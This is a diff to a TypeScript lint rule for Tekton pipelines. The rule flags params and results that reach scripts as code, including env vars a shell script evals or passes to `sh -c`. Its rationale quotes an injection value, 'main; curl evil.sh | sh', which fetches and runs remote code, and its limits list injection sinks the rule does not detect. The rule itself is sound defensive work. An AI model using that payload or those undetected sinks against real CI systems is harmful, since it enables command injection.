@@ -1,7 +1,9 @@
 import { ENTRYPOINT, invocations, shellDataIndex } from '../../private/argv';
 import { asArray, objectName, pipelineSpecsOf } from '../../private/containers';
 import { pipelineFixedReferences, runFixedReferences } from '../../private/param-enums';
-import { callerAfter, callerEnv, envNameFor, FixedReferences, untrustedSubstitutions } from '../../private/substitutions';
+import { interpreterOf, readsAsShell } from '../../private/repo-code';
+import { shellCommandString, variablesRunAsCode } from '../../private/shell';
+import { callerAfter, callerEnv, envNameFor, envWithCallerValues, FixedReferences, untrustedSubstitutions } from '../../private/substitutions';
 import { FIXED_PLACEHOLDERS_TEXT } from '../../private/templates';
 import { jsString } from '../../private/text';
 import { IRule, Severity } from '../rule';
@@ -25,8 +27,8 @@ const CONTAINERS = containerRule(
     title: 'Params and results reach scripts and interpreters only through env',
     rationale:
       'Tekton pastes a substitution into the script or argument text before the program parses it, so a param value such as '
-      + '"main; curl evil.sh | sh" runs as code. Through env it stays data.',
-    fix: 'Pass the value through env and quote the variable in the script.',
+      + '"main; curl evil.sh | sh" runs as code. Through env it stays data, as long as the script does not run the variable as code.',
+    fix: 'Pass the value through env, quote the variable in the script, and never run it as code (eval, sh -c "$VAR", the program\'s name).',
     decidesFrom:
       'Every step, sidecar and stepTemplate of Tasks, TaskRuns, Pipelines and PipelineRuns (`tekton.dev` v1 or v1beta1, or '
       + 'no apiVersion; embedded `taskSpec`s and `pipelineSpec`s followed to any depth), and of every StepAction: the '
@@ -85,13 +87,36 @@ const CONTAINERS = containerRule(
       + 'results into the CEL text before it evaluates it (with `enable-cel-in-whenexpression`); a step\'s with the params the '
       + 'run fixes for the step, a pipeline task\'s with those the run of a PipelineRun\'s own `pipelineSpec` (or of a pipeline '
       + 'task\'s `pipelineSpec`) fixes at the pipeline level, its value else the pipeline\'s default (a pipeline task\'s own '
-      + 'params do not reach its `when`).',
+      + 'params do not reach its `when`). A shell script (its `#!` line names a POSIX shell, or there is none: Tekton runs `sh`), '
+      + 'and the code of `sh -c CODE` in `command` and `args`, are also read for what it does with the env vars whose `value` holds such a substitution (read as above, the '
+      + 'stepTemplate\'s env merged as Tekton merges it, a later entry of a name replacing an earlier one): a command that runs '
+      + 'one as code is a finding, once per variable, at the first such command. It runs as code a word `eval` joins, the code of '
+      + '`sh -c` (any POSIX shell, its option group holding `c`; the outer shell expands `"echo $X"` into the code), the code of '
+      + 'another interpreter\'s code option (`python -c`, `node -e`/`--eval`/`-p`, `perl -e` and `-E` in a group, `ruby -e`, '
+      + '`php -r`, `lua -e`, `Rscript -e`, `zsh`/`fish`/`csh -c`, `pwsh -Command`), a command word that expands it (the value '
+      + 'chooses the program and its words), a word `source` or `.` reads (`source <(echo "$X")`, a file it names), and a '
+      + 'shell\'s input (or `source /dev/stdin`\'s): a here-string, a heredoc whose delimiter is not quoted, or what `echo` or '
+      + '`printf` pipes to it; each found through wrappers and runners as in `command` and `args` (`timeout 5m sudo -u b bash '
+      + '-c "$X"`, `find . -exec sh -c "$X" \\;`), in code the script runs in a shell in turn (`sh -c \'eval "$X"\'`: the child '
+      + 'shell has the env) and in command substitutions. A variable the script assigns from one (`Y="$X"`, `Y=$(cmd "$X")`, '
+      + '`export`, `local`, `declare`, `readonly`, the assignments before a command), wherever it assigns it, counts as it does. '
+      + 'Data are any other word: a quoted argument (`echo "$X"`, `printf \'%s\' "$X"`), the arguments after `sh -c CODE` '
+      + '(`sh -c \'echo "$1"\' _ "$X"`, `$0` and the positional parameters), single-quoted code (`eval \'echo "$X"\'`), the '
+      + 'arguments of a script file (`python3 build.py "$X"`), a quoted heredoc, and `${#X}`.',
     limits:
       'Only listed program names count as interpreters: a renamed binary, a tool that runs one of its option values as a '
       + "command (`git --upload-pack=...`), or an interpreter that the image's entrypoint starts (no `command`) is not "
       + 'recognised; ARGUMENT_INJECTION covers the last case. A substitution is refused wherever it sits in a script, a '
-      + 'comment or quoted heredoc included, while env values are not inspected: what the script then does with the variable '
-      + '(`eval "$VAR"`) is not seen. Each substitution of a place is a finding of its own, reported once with how often the '
+      + 'comment or quoted heredoc included. What a script does with an env var is read only in a shell script, and only for the '
+      + 'commands above: a script in another language (`#!/usr/bin/env python3` with `exec(os.environ["X"])`, node\'s '
+      + '`eval(process.env.X)`) is not read; nor are `valueFrom` and `envFrom`, whose values are not written in the object; '
+      + 'nor the program text of awk, sed, jq or yq (`sed "s/a/$X/"`), the remote command of ssh, an array\'s elements '
+      + '(`CMD=(tool "$X")`), indirection (`${!NAME}`), a function\'s arguments (`f "$X"` with `f() { eval "$1"; }`), `read`, '
+      + 'positional parameters the code runs (`sh -c \'eval "$1"\' _ "$X"`, a script\'s `"$@"` from `args`), or a file written and '
+      + 'then sourced or run (`echo "$X" > f.sh; sh f.sh`). Assignments are followed wherever they are '
+      + '(one that gives the variable a constant later does not clear it), and in a word that mixes single quotes with an '
+      + 'expansion (`\'$X\'"$Y"`) every variable written counts, as does one read inside a command substitution '
+      + '(`eval "$(printf %q "$X")"` is a finding). The admission policies do not read it: CEL cannot read shell. Each substitution of a place is a finding of its own, reported once with how often the '
       + 'place holds it. Pods, Deployments and other '
       + 'workloads are not read, nor the init containers Tekton adds to the pod itself; a Task named by a resolver, bundle or '
       + 'hub reference is judged only when it is given as an object. The string of `env -S STRING` is read as env\'s '
@@ -106,7 +131,8 @@ const CONTAINERS = containerRule(
       + 'constant of it.',
     howToRelax:
       'Cannot be relaxed: no prop, `Relaxations.of(...)` or annotation waives it. Pass the value through env (`env: [{ '
-      + 'name: \'URL\', value: \'$(params.url)\' }]`) and use `"$URL"`, quoted, in the script.',
+      + 'name: \'URL\', value: \'$(params.url)\' }]`) and use `"$URL"`, quoted, in the script, as an argument of a fixed '
+      + 'command (`git clone "$URL"`), or as a positional parameter of the code of a shell (`sh -c \'git clone "$1"\' _ "$URL"`).',
     relaxable: false,
   },
   (view) => {
@@ -145,8 +171,20 @@ const CONTAINERS = containerRule(
     const env = code ? callerEnv(asArray(c?.env), view.chosenWorkspacePaths, fixed) : undefined;
     // an element Tekton may expand to none or several moves a caller's value after it (from sh -c's data into its code)
     const moves = callerAfter([...command, ...args], view.chosenWorkspacePaths, env, fixed);
+    // a shell script that runs as code an env var whose value holds a substitution callers can choose
+    const script = view.container?.script;
+    const shellCode: Array<{ property: string; code: string }> = typeof script === 'string' && readsAsShell(interpreterOf(script)?.words ?? [])
+      ? [{ property: 'script', code: script }] : [];
+    // and the code of `sh -c CODE` in command and args, which the shell reads as it reads a script
+    const argv = [...command, ...args];
+    for (const run of runs) {
+      const text = shellCommandString(argv, run);
+      const at = text === undefined ? -1 : argv.indexOf(text, run.programIndex + 1);
+      if (text !== undefined && at >= 0 && !shellCode.some((s) => s.code === text)) shellCode.push({ property: at < command.length ? 'command' : 'args', code: text });
+    }
+    const envCode = envRunAsCode(shellCode, asArray(c?.env), view.chosenWorkspacePaths, fixed);
     // each substitution of a place is a finding of its own (once, however often the place holds it): each needs its own env var
-    return [...whens, ...places.flatMap(({ property, text, split, index, program }) => distinct(untrustedSubstitutions(
+    return [...whens, ...envCode, ...places.flatMap(({ property, text, split, index, program }) => distinct(untrustedSubstitutions(
       text, view.chosenWorkspacePaths, property === 'script' ? undefined : env, fixed, index !== undefined && moves[index]))
       .map((found) => {
         const name = envNameFor(found.text);
@@ -182,6 +220,39 @@ function celWhens(when: unknown, fixed?: FixedReferences): Array<Omit<Problem, '
       fix: `Compare the value with input, operator and values instead: when: [{ input: '${found.text}', operator: 'in', values: ['<allowed>'] }].`,
     }));
   });
+}
+
+/**
+ * The env vars of a container (in Tekton's order, the stepTemplate's merged in) whose `value` holds a substitution callers can
+ * choose and that shell code of it (its shell script, the code of `sh -c` in its command and args) runs as code (shell.ts
+ * `variablesRunAsCode`): one finding per variable, at the first command that does.
+ */
+function envRunAsCode(
+  places: ReadonlyArray<{ property: string; code: string }>, env: readonly any[], chosen?: ReadonlySet<string>, fixed?: FixedReferences,
+): Array<Omit<Problem, 'location' | 'target'>> {
+  if (places.length === 0) return [];
+  const { values, names } = envWithCallerValues(env, chosen, fixed);
+  // a later entry of the same name replaces an earlier one; valueFrom and envFrom are not values
+  const holding = new Map<string, string>();
+  for (const { entry, found } of values) {
+    if (names.has(entry.name) && typeof entry.value === 'string') holding.set(entry.name, found.text);
+    else holding.delete(entry.name);
+  }
+  const reported = new Set<string>();
+  return places.flatMap(({ property, code }) => variablesRunAsCode(code, new Set(holding.keys())).map((sink) => ({ property, ...sink })))
+    .flatMap(({ property, origin, variable, line, how }) => {
+      if (reported.has(origin)) return [];
+      reported.add(origin);
+      const substitution = holding.get(origin)!;
+      return [{
+        property,
+        value: line,
+        problem: `runs as code the value of env var ${origin}, which holds ${substitution}: ${how}`
+        + (variable !== origin ? ` (through ${variable}, which the script assigns from it)` : ''),
+        fix: `Pass "$${origin}" as data, never as code: as a quoted argument of a fixed command, or to a shell as a positional `
+        + `parameter (sh -c 'tool "$1"' _ "$${origin}").`,
+      }];
+    });
 }
 
 /** The first occurrence of each substitution, with how often the text holds it. */
